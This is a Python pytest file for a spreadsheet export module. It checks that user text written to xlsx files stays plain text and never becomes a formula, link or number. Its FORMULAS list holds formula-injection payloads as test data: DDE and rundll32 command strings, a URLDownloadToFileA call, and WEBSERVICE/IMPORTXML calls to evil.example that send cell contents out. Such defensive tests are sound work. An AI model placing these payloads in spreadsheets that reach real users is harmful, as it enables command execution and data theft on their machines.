"""Spreadsheets that leave the building: whatever a text looks like, it is written as text."""

from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from shipworthy.errors import UserError
from shipworthy.exchange.sheets import LONGEST_TEXT, Cell, Look, Sheet, cell_text, workbook_bytes, write_workbook

MADE = datetime(2026, 11, 22, 14, 3, tzinfo=UTC)
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","Open")',
    '=IMPORTXML(CONCAT("http://evil.example?",A1),"//a")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd","/C calc","x")',
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "=1+1\n=2+2",
    "\0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "{=1+1}",
    "=A1:A9",
    "='file:///etc/passwd'#$x.A1",
    "='http://evil.example/[x.xlsx]Sheet1'!A1",
    "=_xlfn.WEBSERVICE(1)",
    '=RTD("x",,"y")',
    '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0)',
    '=EXEC("calc")',
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "%0A=1+1",
    ";=1+1",
    ",=1+1",
    '"=1+1',
    "'=1+1",
    "|=1+1",
    "0x3D1+1",
    "https://evil.example",
    "mailto:a@b.example",
    "internal:Sheet1!A1",
    "external:c:\\x.xlsx",
    "1234567890123456789",
    "007",
    "1e3",
    "TRUE",
    "2/3",
    "#REF!",
]


def _sheet(texts: list[str], look: Look = Look.FIELD) -> Sheet:
    return Sheet("Notes", (20,), [[Cell(cell_text(text), look)] for text in texts], head=1)


@pytest.mark.parametrize("look", [Look.FIELD, Look.TEXT, Look.KEY])
def test_no_text_becomes_a_formula_a_link_or_a_number(tmp_path: Path, look: Look) -> None:
    path = tmp_path / "notes.xlsx"
    write_workbook(path, [_sheet(FORMULAS, look)], "Notes", MADE)
    sheet = openpyxl.load_workbook(path)["Notes"]
    found = [row[0] for row in sheet.iter_rows()]
    assert [cell.value for cell in found] == [cell_text(text) for text in FORMULAS]
    assert {cell.data_type for cell in found} == {"s"}
    assert not any(cell.hyperlink for cell in found)


def test_what_a_cell_cannot_hold_is_replaced_and_line_ends_are_one_character() -> None:
    assert cell_text(" a\r\nb\rc\u2028d\x00\x1b\ud800\ufffe ") == "a\nb\nc\nd\ufffd\ufffd\ufffd\ufffd"
    assert cell_text("\u200fمرحبا 👩\u200d🚀 e\u0301") == "\u200fمرحبا 👩\u200d🚀 e\u0301"


@pytest.mark.parametrize("text", ["_x0041_", "_x005F_", "<b>&amp;</b>", "]]>", "x" * LONGEST_TEXT, "a\tb", "a  b"])
def test_texts_that_look_like_the_format_itself_are_written_whole(tmp_path: Path, text: str) -> None:
    path = tmp_path / "notes.xlsx"
    write_workbook(path, [_sheet([text])], "Notes", MADE)
    assert path.stat().st_size > 1_000


def test_the_same_sheets_give_the_same_bytes() -> None:
    assert workbook_bytes([_sheet(["a"])], "Notes", MADE) == workbook_bytes([_sheet(["a"])], "Notes", MADE)


def test_choices_are_offered_through_a_hidden_sheet_and_other_words_are_let_in(tmp_path: Path) -> None:
    path = tmp_path / "offers.xlsx"
    cell = Cell("", Look.FIELD, ("=1  Yes, always", "2  No"), ("Answer", "x" * 300))
    write_workbook(path, [Sheet("Offers", (20,), [[cell], [cell]])], "Offers", MADE)
    workbook = openpyxl.load_workbook(path)
    first, second = workbook["Offers"].data_validations.dataValidation
    assert first.formula1 == second.formula1 == "Lists!$A$1:$B$1"
    assert not first.showErrorMessage
    assert len(first.prompt or "") == 255
    assert [each.value for each in workbook["Lists"][1]] == ["=1  Yes, always", "2  No"]
    assert workbook["Lists"].sheet_state == "hidden"


def test_only_fields_can_be_typed_into_and_take_text_alone(tmp_path: Path) -> None:
    path = tmp_path / "locked.xlsx"
    rows = [[Cell("a", Look.TEXT), Cell("", Look.FIELD), Cell("id", Look.KEY)]]
    write_workbook(path, [Sheet("Locked", (20, 20, 0), rows)], "Locked", MADE)
    sheet: Any = openpyxl.load_workbook(path)["Locked"]
    assert sheet.protection.sheet
    assert not sheet.protection.password
    assert [cell.protection.locked for cell in sheet[1]] == [True, False, True]
    assert sheet["B1"].number_format == "@"
    assert sheet.column_dimensions["C"].hidden


def test_a_file_that_cannot_be_written_leaves_the_older_one(tmp_path: Path) -> None:
    with pytest.raises(UserError, match="it is a folder"):
        write_workbook(tmp_path, [_sheet(["a"])], "Notes", MADE)


def test_a_number_can_be_reckoned_with_and_a_text_like_one_cannot(tmp_path: Path) -> None:
    path = tmp_path / "numbers.xlsx"
    rows = [[Cell("Head", Look.HEAD)], [Cell("0.75", Look.NUMBER, number=0.75)], [Cell("0", number=0.0)], [Cell("7")]]
    write_workbook(path, [Sheet("All", (10,), rows, head=1)], "Numbers", MADE)
    sheet = openpyxl.load_workbook(path)["All"]
    assert [(cell.data_type, cell.value) for (cell,) in sheet.iter_rows()] == [
        ("s", "Head"),
        ("n", 0.75),
        ("n", 0),
        ("s", "7"),
    ]
